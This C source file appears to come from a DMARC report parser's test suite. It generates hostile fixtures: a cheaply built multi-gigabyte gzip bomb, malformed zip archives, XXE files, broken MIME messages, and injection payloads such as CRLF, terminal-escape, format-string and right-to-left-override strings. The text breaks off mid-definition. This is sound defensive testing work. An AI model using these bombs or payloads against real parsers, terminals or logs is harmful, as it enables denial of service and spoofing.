/* gen-hostile.c - write the hostile fixtures of ../shared/HOSTILE.md that concern parsing
 *
 * Usage: gen-hostile [-m MARKER-FILE] DIR [NAME...]    write every fixture (or the NAMEs) in DIR
 *        gen-hostile -l                                list the fixtures: name, item, what
 *
 * Items 1-42 of HOSTILE.md that a parser sees: empty and huge files, MIME damage, gzip and zip
 * bombs and abuse, XML entity and depth attacks, encoding faults, semantic garbage, broken ARF,
 * injection payloads, hostile mail-log lines. Bombs are generated here, never committed: the
 * gzip bomb is built from one compressed megabyte repeated (a deflate stream flushed with
 * Z_FULL_FLUSH is byte-aligned and refers to nothing before it), its CRC from crc32_combine(),
 * so a 10 GiB bomb costs milliseconds. The 10 GiB message (item 2) and the 1 GiB log line
 * (item 42) are sparse files, written only to DIR, never built in memory.
 *
 * tests/test-hostile.c includes this file with GEN_HOSTILE_NO_MAIN defined and builds the same
 * fixtures in memory with hostile_build(), so the catalogue and its tests cannot drift apart.
 * The XXE fixtures point at the marker file given with -m (default /tmp/dmarctrace-xxe-marker),
 * which the caller fills with a unique string. Output is deterministic. */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <errno.h>
#include <fcntl.h>
#include <inttypes.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
#include <zlib.h>

#include "report/macro.h"

struct hbuf {
        unsigned char *p;
        size_t len, cap;
};

struct hostile_ctx {
        const char *marker_path;        /* the file the XXE fixtures try to read */
};

/* hb_reserve - make room for n more bytes (aborts when memory runs out: a generator) */
static void hb_reserve(struct hbuf *b, size_t n) {
        size_t cap;

        if (b->cap - b->len > n)
                return;
        cap = b->cap ? b->cap : 4096;
        while (cap - b->len <= n)
                cap *= 2;
        b->p = realloc(b->p, cap);
        if (!b->p)
                abort();
        b->cap = cap;
}

/* hb_add - append n bytes */
static void hb_add(struct hbuf *b, const void *d, size_t n) {
        hb_reserve(b, n);
        memcpy(b->p + b->len, d, n);
        b->len += n;
        b->p[b->len] = 0;               /* always NUL-terminated, not counted */
}

/* hb_str - append a C string */
static void hb_str(struct hbuf *b, const char *s) {
        hb_add(b, s, strlen(s));
}

/* hb_utf16le - append the ASCII bytes of x as UTF-16LE, after a BOM */
static void hb_utf16le(struct hbuf *b, const struct hbuf *x) {
        size_t i;

        hb_add(b, "\xff\xfe", 2);
        for (i = 0; i < x->len; i++)
                hb_add(b, (unsigned char[]) { x->p[i], 0 }, 2);
}

/* hb_fill - append n copies of byte c */
static void hb_fill(struct hbuf *b, int c, size_t n) {
        hb_reserve(b, n);
        memset(b->p + b->len, c, n);
        b->len += n;
        b->p[b->len] = 0;
}

/* hb_repeat - append s n times */
static void hb_repeat(struct hbuf *b, const char *s, size_t n) {
        size_t l = strlen(s);

        hb_reserve(b, l * n);
        while (n-- > 0)
                hb_add(b, s, l);
}

/* hb_printf - append formatted text */
static void hb_printf(struct hbuf *b, const char *fmt, ...) __attribute__((format(printf, 2, 3)));
static void hb_printf(struct hbuf *b, const char *fmt, ...) {
        va_list ap;
        int n;

        va_start(ap, fmt);
        n = vsnprintf(NULL, 0, fmt, ap);
        va_end(ap);
        if (n < 0)
                abort();
        hb_reserve(b, (size_t) n + 1);
        va_start(ap, fmt);
        (void) vsnprintf((char *) b->p + b->len, (size_t) n + 1, fmt, ap);
        va_end(ap);
        b->len += (size_t) n;
}

/* hb_le16, hb_le32 - little-endian integers (zip, gzip) */
static void hb_le16(struct hbuf *b, unsigned v) {
        unsigned char x[2] = { (unsigned char) v, (unsigned char) (v >> 8) };

        hb_add(b, x, 2);
}

static void hb_le32(struct hbuf *b, uint32_t v) {
        unsigned char x[4] = { (unsigned char) v, (unsigned char) (v >> 8), (unsigned char) (v >> 16),
                               (unsigned char) (v >> 24) };

        hb_add(b, x, 4);
}

/* hb_free - release the buffer */
static void hb_free(struct hbuf *b) {
        free(b->p);
        b->p = NULL;
        b->len = b->cap = 0;
}

static uint64_t hrng = 0x9e3779b97f4a7c15ull;

/* hrand - xorshift64, deterministic */
static uint64_t hrand(void) {
        hrng ^= hrng << 13;
        hrng ^= hrng >> 7;
        hrng ^= hrng << 17;
        return hrng;
}

/* ---- compression ---- */

/* deflate_into - compress d[0..n) into b: raw deflate (wbits -15) or gzip (31); flush is
 * Z_FINISH or Z_FULL_FLUSH (then the stream is left open: only for raw chunks) */
static void deflate_into(struct hbuf *b, const void *d, size_t n, int wbits, int level, int flush) {
        z_stream z;
        unsigned char out[65536];
        int r;

        memset(&z, 0, sizeof z);
        if (deflateInit2(&z, level, Z_DEFLATED, wbits, 9, Z_DEFAULT_STRATEGY) != Z_OK)
                abort();
        z.next_in = (unsigned char *) (uintptr_t) d;
        z.avail_in = (uInt) n;
        do {
                z.next_out = out;
                z.avail_out = sizeof out;
                r = deflate(&z, flush);
                if (r == Z_STREAM_ERROR)
                        abort();
                hb_add(b, out, sizeof out - z.avail_out);
        } while (z.avail_out == 0 || (flush == Z_FINISH && r != Z_STREAM_END));
        deflateEnd(&z);
}

/* gzip_of - one gzip member of d[0..n) */
static void gzip_of(struct hbuf *b, const void *d, size_t n) {
        deflate_into(b, d, n, 31, 6, Z_FINISH);
}

/* gzip_header - the 10-byte gzip header with flags flg (extra fields are the caller's) */
static void gzip_header(struct hbuf *b, unsigned flg) {
        static const unsigned char h[] = { 0x1f, 0x8b, 8 };

        hb_add(b, h, 3);
        hb_add(b, (unsigned char[]) { (unsigned char) flg, 0, 0, 0, 0, 0, 3 }, 7);
}

/* gzip_repeat_bomb - a gzip member: head, then chunk repeated `times`, each chunk compressed
 * once and its compressed bytes repeated (ratio near deflate's ~1030:1 for one byte repeated) */
static void gzip_repeat_bomb(struct hbuf *b, const char *head, const void *chunk, size_t clen,
                             uint64_t times) {
        struct hbuf c = { 0 }, h = { 0 };
        uLong crc, ccrc;
        uint64_t total, i;

        deflate_into(&h, head, strlen(head), -15, 9, Z_FULL_FLUSH);
        deflate_into(&c, chunk, clen, -15, 9, Z_FULL_FLUSH);
        gzip_header(b, 0);
        hb_add(b, h.p, h.len);
        hb_reserve(b, c.len * times + 16);
        for (i = 0; i < times; i++)
                hb_add(b, c.p, c.len);
        hb_add(b, "\x03\x00", 2);                       /* empty final fixed-Huffman block */
        crc = crc32(0, (const Bytef *) head, (uInt) strlen(head));
        ccrc = crc32(0, chunk, (uInt) clen);
        for (i = 0; i < times; i++)
                crc = crc32_combine(crc, ccrc, (z_off_t) clen);
        total = strlen(head) + clen * times;
        hb_le32(b, (uint32_t) crc);
        hb_le32(b, (uint32_t) total);
        hb_free(&c);
        hb_free(&h);
}

/* ---- zip ---- */

struct zent {
        const char *name;
        size_t name_len;                /* 0: strlen(name) */
        const void *data;
        size_t len;
        unsigned method;                /* 0 stored, 8 deflate, others written as stored bytes */
        unsigned flags;                 /* general purpose bit flags (1 encrypted, 8 descriptor) */
        const char *cd_name;            /* central directory name when it differs, or NULL */
        int cd_method;                  /* -1: same as method */
        long cd_size_delta;             /* added to the central directory's sizes */
        bool zip64_extra;               /* add a ZIP64 extra field to both headers */
        bool zero_sizes;                /* sizes 0 in both headers (a descriptor follows) */
        long overlap_with;              /* >= 0: point the central entry at this entry's data */
};

/* zip_build - an archive of n entries, by hand so every field can be made to lie */
static void zip_build(struct hbuf *b, const struct zent *e, size_t n, int eocd_copies) {
        struct hbuf cd = { 0 };
        uint32_t *off = calloc(n ? n : 1, sizeof *off);
        uint32_t *crcs = calloc(n ? n : 1, sizeof *crcs);
        uint32_t *csz = calloc(n ? n : 1, sizeof *csz);
        size_t i;
        uint32_t cd_off;
        int k;

        if (!off || !crcs || !csz)
                abort();
        for (i = 0; i < n; i++) {
                struct hbuf comp = { 0 };
                size_t nl = e[i].name_len ? e[i].name_len : strlen(e[i].name);
                uint32_t size_c, size_u;

                if (e[i].method == 8)
                        deflate_into(&comp, e[i].data, e[i].len, -15, 6, Z_FINISH);
                else
                        hb_add(&comp, e[i].data, e[i].len);
                crcs[i] = (uint32_t) crc32(0, e[i].data, (uInt) e[i].len);
                csz[i] = (uint32_t) comp.len;
                off[i] = (uint32_t) b->len;
                size_c = e[i].zero_sizes ? 0 : csz[i];
                size_u = e[i].zero_sizes ? 0 : (uint32_t) e[i].len;
                hb_le32(b, 0x04034b50);
                hb_le16(b, e[i].zip64_extra ? 45 : 20);
                hb_le16(b, e[i].flags);
                hb_le16(b, e[i].method);
                hb_le16(b, 0);                          /* time */
                hb_le16(b, 0x21);                       /* date: 1980-01-01 */
                hb_le32(b, e[i].zero_sizes ? 0 : crcs[i]);
                hb_le32(b, e[i].zip64_extra ? 0xffffffffu : size_c);
                hb_le32(b, e[i].zip64_extra ? 0xffffffffu : size_u);
                hb_le16(b, (unsigned) nl);
                hb_le16(b, e[i].zip64_extra ? 20 : 0);
                hb_add(b, e[i].name, nl);
                if (e[i].zip64_extra) {
                        hb_le16(b, 1);
                        hb_le16(b, 16);
                        hb_le32(b, size_u);
                        hb_le32(b, 0);
                        hb_le32(b, size_c);
                        hb_le32(b, 0);
                }
                hb_add(b, comp.p ? comp.p : (unsigned char *) "", comp.len);
                if (e[i].flags & 8) {                   /* data descriptor */
                        hb_le32(b, 0x08074b50);
                        hb_le32(b, crcs[i]);
                        hb_le32(b, csz[i]);
                        hb_le32(b, (uint32_t) e[i].len);
                }
                hb_free(&comp);
        }
        for (i = 0; i < n; i++) {
                const char *name = e[i].cd_name ? e[i].cd_name : e[i].name;
                size_t nl = e[i].cd_name ? strlen(e[i].cd_name)
                                         : (e[i].name_len ? e[i].name_len : strlen(e[i].name));
                uint32_t at = e[i].overlap_with >= 0 ? off[e[i].overlap_with] : off[i];
                uint32_t sc = (uint32_t) ((long) csz[i] + e[i].cd_size_delta);
                uint32_t su = (uint32_t) ((long) e[i].len + e[i].cd_size_delta);

                if (e[i].overlap_with >= 0) {
                        sc = csz[e[i].overlap_with];
                        su = (uint32_t) e[e[i].overlap_with].len;
                }
                hb_le32(&cd, 0x02014b50);
                hb_le16(&cd, 0x031e);                   /* made by: unix, 3.0 */
                hb_le16(&cd, e[i].zip64_extra ? 45 : 20);
                hb_le16(&cd, e[i].flags);
                hb_le16(&cd, e[i].cd_method >= 0 ? (unsigned) e[i].cd_method : e[i].method);
                hb_le16(&cd, 0);
                hb_le16(&cd, 0x21);
                hb_le32(&cd, e[i].overlap_with >= 0 ? crcs[e[i].overlap_with] : crcs[i]);
                hb_le32(&cd, e[i].zip64_extra ? 0xffffffffu : sc);
                hb_le32(&cd, e[i].zip64_extra ? 0xffffffffu : su);
                hb_le16(&cd, (unsigned) nl);
                hb_le16(&cd, e[i].zip64_extra ? 20 : 0);
                hb_le16(&cd, 0);                        /* comment */
                hb_le16(&cd, 0);                        /* disk */
                hb_le16(&cd, 0);                        /* internal attributes */
                hb_le32(&cd, 0100644u << 16);
                hb_le32(&cd, at);
                hb_add(&cd, name, nl);
                if (e[i].zip64_extra) {
                        hb_le16(&cd, 1);
                        hb_le16(&cd, 16);
                        hb_le32(&cd, su);
                        hb_le32(&cd, 0);
                        hb_le32(&cd, sc);
                        hb_le32(&cd, 0);
                }
        }
        cd_off = (uint32_t) b->len;
        hb_add(b, cd.p ? cd.p : (unsigned char *) "", cd.len);
        for (k = 0; k < eocd_copies; k++) {
                hb_le32(b, 0x06054b50);
                hb_le16(b, 0);
                hb_le16(b, 0);
                hb_le16(b, (unsigned) (n > 0xffff ? 0xffff : n));
                hb_le16(b, (unsigned) (n > 0xffff ? 0xffff : n));
                hb_le32(b, (uint32_t) cd.len);
                hb_le32(b, cd_off);
                hb_le16(b, 0);
        }
        hb_free(&cd);
        free(off);
        free(crcs);
        free(csz);
}

/* zent_xml - a plain entry */
static struct zent zent_of(const char *name, const void *d, size_t n, unsigned method) {
        return (struct zent) { .name = name, .data = d, .len = n, .method = method, .cd_method = -1,
                               .overlap_with = -1 };
}

/* ---- reports and messages ---- */

#define REPORT_DOMAIN "example.com"

struct xml_opts {
        const char *org, *email, *extra, *report_id;
        const char *begin, *end;
        const char *domain;
        const char *policy;             /* the whole <policy_published> element, or NULL */
        const char *metadata;           /* the whole <report_metadata> element, or NULL */
        const char *root_attrs;         /* attributes of <feedback>, or "" */
        const char *prolog;             /* what comes before <feedback>, or the default */
        const char *before_records;     /* inserted after policy_published */
        const char *records;            /* the records, or NULL for one good record */
        const char *after_root;         /* appended after </feedback> */
};

static const char good_record[] =
        "  <record>\n    <row>\n      <source_ip>192.0.2.10</source_ip>\n      <count>3</count>\n"
        "      <policy_evaluated>\n        <disposition>none</disposition>\n        <dkim>pass</dkim>\n"
        "        <spf>pass</spf>\n      </policy_evaluated>\n    </row>\n    <identifiers>\n"
        "      <header_from>example.com</header_from>\n    </identifiers>\n    <auth_results>\n"
        "      <dkim>\n        <domain>example.com</domain>\n        <result>pass</result>\n"
        "      </dkim>\n      <spf>\n        <domain>example.com</domain>\n"
        "        <result>pass</result>\n      </spf>\n    </auth_results>\n  </record>\n";

/* xml_report - a DMARC aggregate report with the given substitutions */
static void xml_report(struct hbuf *b, const struct xml_opts *o) {
        hb_str(b, o->prolog ? o->prolog : "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n");
        hb_printf(b, "<feedback%s>\n", o->root_attrs ? o->root_attrs : "");
        if (o->metadata)
                hb_str(b, o->metadata);
        else
                hb_printf(b,
                          "  <report_metadata>\n    <org_name>%s</org_name>\n"
                          "    <email>%s</email>\n%s%s%s    <report_id>%s</report_id>\n"
                          "    <date_range>\n      <begin>%s</begin>\n      <end>%s</end>\n"
                          "    </date_range>\n  </report_metadata>\n",
                          o->org ? o->org : "receiver.example", o->email ? o->email : "dmarc@receiver.example",
                          o->extra ? "    <extra_contact_info>" : "", o->extra ? o->extra : "",
                          o->extra ? "</extra_contact_info>\n" : "",
                          o->report_id ? o->report_id : "hostile-1", o->begin ? o->begin : "1700000000",
                          o->end ? o->end : "1700086399");
        if (o->policy)
                hb_str(b, o->policy);
        else
                hb_printf(b,
                          "  <policy_published>\n    <domain>%s</domain>\n    <adkim>r</adkim>\n"
                          "    <aspf>r</aspf>\n    <p>none</p>\n    <sp>none</sp>\n    <pct>100</pct>\n"
                          "  </policy_published>\n",
                          o->domain ? o->domain : REPORT_DOMAIN);
        if (o->before_records)
                hb_str(b, o->before_records);
        hb_str(b, o->records ? o->records : good_record);
        hb_str(b, "</feedback>\n");
        if (o->after_root)
                hb_str(b, o->after_root);
}

/* good_xml - the plain good report */
static void good_xml(struct hbuf *b) {
        xml_report(b, &(struct xml_opts) { 0 });
}

/* b64_into - base64 of d[0..n) in 76-column lines, LF */
static void b64_into(struct hbuf *b, const unsigned char *d, size_t n) {
        static const char a[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        size_t i, col = 0;

        hb_reserve(b, n / 3 * 4 + n / 57 + 8);
        for (i = 0; i < n; i += 3) {
                uint32_t v = (uint32_t) d[i] << 16;
                char q[4];

                if (i + 1 < n)
                        v |= (uint32_t) d[i + 1] << 8;
                if (i + 2 < n)
                        v |= d[i + 2];
                q[0] = a[v >> 18 & 63];
                q[1] = a[v >> 12 & 63];
                q[2] = i + 1 < n ? a[v >> 6 & 63] : '=';
                q[3] = i + 2 < n ? a[v & 63] : '=';
                hb_add(b, q, 4);
                col += 4;
                if (col >= 76) {
                        hb_add(b, "\n", 1);
                        col = 0;
                }
        }
        if (col)
                hb_add(b, "\n", 1);
}

/* eml_headers - the usual outer headers of a report message, plus extra (may be "") */
static void eml_headers(struct hbuf *b, const char *extra) {
        hb_str(b, "From: DMARC Reports <dmarc@receiver.example>\n"
                  "To: rua@example.com\n"
                  "Subject: Report Domain: example.com Submitter: receiver.example Report-ID: hostile-1\n"
                  "Message-ID: <hostile-1@receiver.example>\n"
                  "Date: Wed, 15 Nov 2023 00:00:00 +0000\n"
                  "MIME-Version: 1.0\n");
        hb_str(b, extra);
}

/* eml_attach - a single-part message whose body is payload, base64, labelled ctype */
static void eml_attach(struct hbuf *b, const char *extra, const char *ctype, const char *fname,
                       const void *payload, size_t n) {
        eml_headers(b, extra);
        hb_printf(b, "Content-Type: %s\nContent-Transfer-Encoding: base64\n"
                     "Content-Disposition: attachment; filename=\"%s\"\n\n", ctype, fname);
        b64_into(b, payload, n);
}

/* eml_multipart - a multipart/mixed with a text part and payload (base64) as the second part */
static void eml_multipart(struct hbuf *b, const char *extra, const char *ctype, const char *fname,
                          const void *payload, size_t n) {
        eml_headers(b, extra);
        hb_str(b, "Content-Type: multipart/mixed; boundary=\"=-b1\"\n\n--=-b1\n"
                  "Content-Type: text/plain\n\nThis is an aggregate report.\n--=-b1\n");
        hb_printf(b, "Content-Type: %s\nContent-Transfer-Encoding: base64\n"
                     "Content-Disposition: attachment; filename=\"%s\"\n\n", ctype, fname);
        b64_into(b, payload, n);
        hb_str(b, "--=-b1--\n");
}

/* arf - a failure report: outer headers, a feedback part, original headers as origin_ct */
static void arf(struct hbuf *b, const char *outer_extra, const char *feedback, const char *origin_ct,
                const char *original) {
        hb_str(b, "From: dmarc-ruf@receiver.example\nTo: ruf@example.com\n"
                  "Subject: DMARC Failure Report for example.com\n"
                  "Message-ID: <ruf-1@receiver.example>\nDate: Wed, 15 Nov 2023 00:00:00 +0000\n"
                  "MIME-Version: 1.0\n");
        hb_str(b, outer_extra);
        hb_str(b, "Content-Type: multipart/report; report-type=feedback-report; boundary=\"=-r1\"\n\n"
                  "--=-r1\nContent-Type: text/plain\n\nA message claiming to be from you failed DMARC.\n"
                  "--=-r1\nContent-Type: message/feedback-report\n\n");
        hb_str(b, feedback ? feedback
                           : "Feedback-Type: auth-failure\nUser-Agent: hostile/1.0\nVersion: 1\n"
                             "Auth-Failure: dmarc\nSource-IP: 192.0.2.10\nReported-Domain: example.com\n"
                             "Original-Mail-From: <www-data@example.com>\n"
                             "Arrival-Date: Wed, 15 Nov 2023 00:00:00 +0000\n");
        hb_printf(b, "\n--=-r1\nContent-Type: %s\n\n", origin_ct ? origin_ct : "text/rfc822-headers");
        hb_str(b, original ? original
                           : "Received: from localhost by mail.example.com (Postfix, from userid 33)\n"
                             "\tid 4Bq2Wd1xyz; Wed, 15 Nov 2023 00:00:00 +0000 (UTC)\n"
                             "From: shop <shop@example.com>\nTo: victim@receiver.example\n"
                             "Subject: your order\nMessage-ID: <order-1@example.com>\n"
                             "Date: Wed, 15 Nov 2023 00:00:00 +0000\n"
                             "X-PHP-Originating-Script: 33:mailer.php\n");
        hb_str(b, "\n--=-r1--\n");
}

static const char arf_original_head[] =
        "Received: from localhost by mail.example.com (Postfix, from userid 33)\n"
        "\tid 4Bq2Wd1xyz; Wed, 15 Nov 2023 00:00:00 +0000 (UTC)\n"
        "To: victim@receiver.example\nMessage-ID: <order-1@example.com>\n"
        "Date: Wed, 15 Nov 2023 00:00:00 +0000\n";

/* The injection payloads of item 40, each a complete hostile value */
static const char *const inject_payloads[] = {
        "a\r\nPRIORITY=0\nFAKE=1",
        "\x1b[2J\x1b[Hcleared",
        "\x1b]0;title\x07 and \x1b]52;c;aGk=\x07",
        "evil\xe2\x80\xaetxt.exe",
        "line\xe2\x80\xa8sep\xc2\x85nel",
        "csi\xc2\x9b" "31m and raw \x9b" "31m",
        "inv\xff\xfe\xc0\xaf" "alid",
        "%n%s%x%n",
        "zero\xe2\x80\x8bwidth\xef\xbb\xbf",
};

/* ---- the generators ---- */

typedef void (*hostile_gen)(struct hbuf *b, const struct hostile_ctx *ctx);

#define GEN(fn) static void fn(struct hbuf *b, const struct hostile_ctx *ctx _unused_)

GEN(g_empty) {
        (void) b;
}

/* 2: written as a sparse file by main(); in memory only its first line */
GEN(g_huge_head) {
        hb_str(b, "From: x@example.com\n");
}

/* 6: one field folded over 10 MB of continuation lines, so the size limit, not the field count,
 * is what stops it */
GEN(g_headers_never_end) {
        hb_str(b, "From: a@example.com\nX-Filler: start\n");
        while (b->len < (10u << 20))
                hb_str(b, "\taaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\n");
}

GEN(g_subject_5mb) {
        eml_headers(b, "");
        hb_str(b, "Subject: ");
        hb_fill(b, 'S', 5u << 20);
        hb_str(b, "\nContent-Type: text/plain\n\nbody\n");
}

/* a failure report whose original Subject is 90 KB: within the header limit, over the text cap */
GEN(g_failure_subject_90k) {
        struct hbuf o = { 0 };

        hb_str(&o, arf_original_head);
        hb_str(&o, "From: shop@example.com\nSubject: ");
        hb_fill(&o, 'S', 90000);
        hb_str(&o, "\n");
        arf(b, "", NULL, NULL, (const char *) o.p);
        hb_free(&o);
}

GEN(g_fields_100k) {
        eml_headers(b, "");
        hb_repeat(b, "X-F: v\n", 100000);
        hb_str(b, "Content-Type: text/plain\n\nbody\n");
}

/* 30,000 fields in under 100 KiB: the count limit, not the size limit */
GEN(g_fields_30k_small) {
        hb_str(b, "From: a@example.com\n");
        hb_repeat(b, "a:\n", 30000);
        hb_str(b, "\nbody\n");
}

GEN(g_failure_fields_100k) {
        struct hbuf o = { 0 };

        hb_str(&o, arf_original_head);
        hb_repeat(&o, "X-F: v\n", 100000);
        arf(b, "", NULL, "message/rfc822", (const char *) o.p);
        hb_free(&o);
}

GEN(g_nesting_10000) {
        unsigned i;

        hb_str(b, "From: a@example.com\nMIME-Version: 1.0\n");
        for (i = 0; i < 10000; i++) {
                if (i % 2 == 0)
                        hb_printf(b, "Content-Type: multipart/mixed; boundary=\"b%u\"\n\n--b%u\n", i, i);
                else
                        hb_str(b, "Content-Type: message/rfc822\n\nFrom: a@example.com\n");
        }
        hb_str(b, "Content-Type: text/plain\n\nleaf\n");
        for (i = 10000; i-- > 0;)
                if (i % 2 == 0)
                        hb_printf(b, "--b%u--\n", i);
}

/* the multipart damage of item 10: mode picks the damage; the second part is a report */
static void multipart_damage(struct hbuf *b, int mode) {
        struct hbuf x = { 0 }, bnd = { 0 };
        const char *bd;

        good_xml(&x);
        switch (mode) {
        case 2:                                         /* a 10 KB boundary */
                hb_fill(&bnd, 'B', 10000);
                break;
        case 3:                                         /* a boundary that prefixes another */
                hb_str(&bnd, "abc");
                break;
        default:
                hb_str(&bnd, "=-b1");
        }
        bd = (const char *) bnd.p;
        eml_headers(b, "");
        if (mode == 0)
                hb_str(b, "Content-Type: multipart/mixed\n\n");
        else if (mode == 1)
                hb_str(b, "Content-Type: multipart/mixed; boundary=\"\"\n\n");
        else
                hb_printf(b, "Content-Type: multipart/mixed; boundary=\"%s\"\n\n", bd);
        if (mode == 3) {
                hb_str(b, "--abc\nContent-Type: multipart/mixed; boundary=\"abcd\"\n\n--abcd\n"
                          "Content-Type: text/plain\n\ninner\n--abcd--\n");
        } else {
                hb_printf(b, "--%s\nContent-Type: text/plain\n\nreport attached\n", mode <= 1 ? "=-b1" : bd);
        }
        hb_printf(b, "--%s\nContent-Type: text/xml\nContent-Transfer-Encoding: base64\n\n",
                  mode <= 1 ? "=-b1" : bd);
        b64_into(b, x.p, x.len);
        if (mode == 4)                                  /* the boundary inside base64 */
                hb_printf(b, "--%s\n", bd);
        if (mode != 5)                                  /* 5: unterminated final boundary */
                hb_printf(b, "--%s--\n", mode <= 1 ? "=-b1" : bd);
        hb_free(&x);
        hb_free(&bnd);
}

GEN(g_mp_no_boundary) { multipart_damage(b, 0); }
GEN(g_mp_empty_boundary) { multipart_damage(b, 1); }
GEN(g_mp_long_boundary) { multipart_damage(b, 2); }
GEN(g_mp_prefix_boundary) { multipart_damage(b, 3); }
GEN(g_mp_boundary_in_base64) { multipart_damage(b, 4); }
GEN(g_mp_unterminated) { multipart_damage(b, 5); }

GEN(g_conflicting_ct) {
        struct hbuf x = { 0 };

        good_xml(&x);
        eml_headers(b, "Content-Type: text/plain\n");
        hb_str(b, "Content-Type: multipart/mixed; boundary=\"=-b1\"\n\n"
                  "--=-b1\nContent-Type: text/xml\n\n");
        hb_add(b, x.p, x.len);
        hb_str(b, "--=-b1--\n");
        hb_free(&x);
}

GEN(g_parts_10000) {
        unsigned i;

        eml_headers(b, "Content-Type: multipart/mixed; boundary=\"p\"\n\n");
        for (i = 0; i < 10000; i++)
                hb_str(b, "--p\nContent-Type: text/plain\n\nx\n");
        hb_str(b, "--p--\n");
}

/* transfer-encoding damage of item 13, each around a gzip report */
static void encoding_damage(struct hbuf *b, int mode) {
        struct hbuf x = { 0 }, gz = { 0 }, enc = { 0 };
        size_t i;

        good_xml(&x);
        gzip_of(&gz, x.p, x.len);
        eml_headers(b, "");
        switch (mode) {
        case 0:                                         /* base64 with junk characters */
                b64_into(&enc, gz.p, gz.len);
                hb_str(b, "Content-Type: application/gzip\nContent-Transfer-Encoding: base64\n\n");
                for (i = 0; i < enc.len; i++) {
                        hb_add(b, enc.p + i, 1);
                        if (i % 7 == 0)
                                hb_str(b, "*!\x01~");
                }
                break;
        case 1:                                         /* bad padding */
                b64_into(&enc, gz.p, gz.len);
                hb_str(b, "Content-Type: application/gzip\nContent-Transfer-Encoding: base64\n\n");
                hb_add(b, enc.p, enc.len);
                hb_str(b, "====\n=A==\n");
                break;
        case 2:                                         /* a leading '=' */
                b64_into(&enc, gz.p, gz.len);
                hb_str(b, "Content-Type: application/gzip\nContent-Transfer-Encoding: base64\n\n=");
                hb_add(b, enc.p, enc.len);
                break;
        case 3:                                         /* quoted-printable soft-break flood */
                hb_str(b, "Content-Type: text/xml\nContent-Transfer-Encoding: quoted-printable\n\n");
                hb_repeat(b, "=\n", 500000);
                hb_add(b, x.p, x.len);
                break;
        case 4:                                         /* uuencode with giant length bytes */
                hb_str(b, "Content-Type: application/gzip\nContent-Transfer-Encoding: x-uuencode\n\n"
                          "begin 644 report.xml.gz\n");
                for (i = 0; i < 2000; i++)
                        hb_str(b, "\x7f\xff~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~\n");
                hb_str(b, "`\nend\n");
                break;
        }
        hb_free(&x);
        hb_free(&gz);
        hb_free(&enc);
}

GEN(g_b64_junk) { encoding_damage(b, 0); }
GEN(g_b64_padding) { encoding_damage(b, 1); }
GEN(g_b64_leading_eq) { encoding_damage(b, 2); }
GEN(g_qp_flood) { encoding_damage(b, 3); }
GEN(g_uu_giant) { encoding_damage(b, 4); }

GEN(g_gmime165) {
        struct hbuf x = { 0 };

        good_xml(&x);
        eml_headers(b, "");
        hb_str(b, "Content-Type: multipart/mixed; boundary=\"=-b1\"; "
                  "\xc3\xa4\xc3\xb6\xc3\xbc=\"\xe2\x82\xac\"; na\xefme*0*=utf-8''%e2%82; "
                  "\xff\xfe=\x80\n\n--=-b1\nContent-Type: text/xml; \xe4rger=1\n\n");
        hb_add(b, x.p, x.len);
        hb_str(b, "--=-b1--\n");
        hb_free(&x);
}

/* address bombs in the outer headers of a message that carries a report */
static void address_bomb(struct hbuf *b, int mode) {
        struct hbuf x = { 0 }, h = { 0 };
        unsigned i;

        good_xml(&x);
        switch (mode) {
        case 0:
                hb_str(&h, "From: ");
                hb_fill(&h, ':', 99999);
                hb_str(&h, "\n");
                break;
        case 1:
                hb_str(&h, "From: ");
                for (i = 0; i < 5000; i++)
                        hb_printf(&h, "%su%u@e.example", i ? ", " : "", i);
                hb_str(&h, "\n");
                break;
        case 2:
                hb_str(&h, "From: ");
                for (i = 0; i < 2000; i++)
                        hb_str(&h, "g:");
                hb_str(&h, "a@example.com");
                for (i = 0; i < 2000; i++)
                        hb_str(&h, ";");
                hb_str(&h, "\n");
                break;
        }
        hb_str(b, (const char *) h.p);
        hb_str(b, "To: rua@example.com\nSubject: report\nMIME-Version: 1.0\n"
                  "Content-Type: text/xml\n\n");
        hb_add(b, x.p, x.len);
        hb_free(&x);
        hb_free(&h);
}

GEN(g_from_colons) { address_bomb(b, 0); }
GEN(g_from_5000) { address_bomb(b, 1); }
GEN(g_from_nested_groups) { address_bomb(b, 2); }

/* multi-From and no From, in a failure report's original headers */
GEN(g_failure_multi_from) {
        arf(b, "", NULL, NULL,
            "From: shop@example.com\nFrom: other@example.net\nTo: v@receiver.example\n"
            "Subject: two senders\nMessage-ID: <m2@example.com>\n");
}

GEN(g_failure_no_from) {
        arf(b, "", NULL, NULL, "To: v@receiver.example\nSubject: nobody\nMessage-ID: <m3@example.com>\n");
}

GEN(g_encoded_words) {
        struct hbuf o = { 0 };
        unsigned i;

        hb_str(&o, arf_original_head);
        hb_str(&o, "From: =?x-unknown?B?aGVsbG8=?= <shop@example.com>\nSubject: ");
        hb_str(&o, "=?utf-8?B?/w==?= =?utf-8?Q?=C3=28?= =?\"\"?Q?x?= raw\xe9\xff 8bit ");
        for (i = 0; i < 1000; i++)
                hb_str(&o, "=?utf-8?B?4oCuZXZpbA==?= ");       /* U+202E "evil", 1000 times */
        hb_str(&o, "\n");
        arf(b, "", NULL, NULL, (const char *) o.p);
        hb_free(&o);
}

GEN(g_nul_cr) {
        static const char orig[] = "Received: from localhost by mail.example.com (Postfix, from userid 33)\r\n"
                                   "\tid 4Bq2Wd1xyz; Wed, 15 Nov 2023 00:00:00 +0000\n"
                                   "From: shop@example.com\r\n"
                                   "Subject: a\0b\rc\n"
                                   "Message-ID: <nul@example.com>\r\n";
        struct hbuf o = { 0 };

        static const char outer[] = "From: dmarc-ruf@receiver.example\r\nTo: ruf@example.com\n"
                                    "Subject: DMARC Failure Report\r\nMIME-Version: 1.0\n"
                                    "Content-Type: multipart/report; report-type=feedback-report; "
                                    "boundary=\"=-r1\"\r\n\n"
                                    "--=-r1\r\nContent-Type: message/feedback-report\n\n"
                                    "Feedback-Type: auth-failure\r\nSource-IP: 192.0.2.1\0\rx\n"
                                    "Version: 1\n\n"
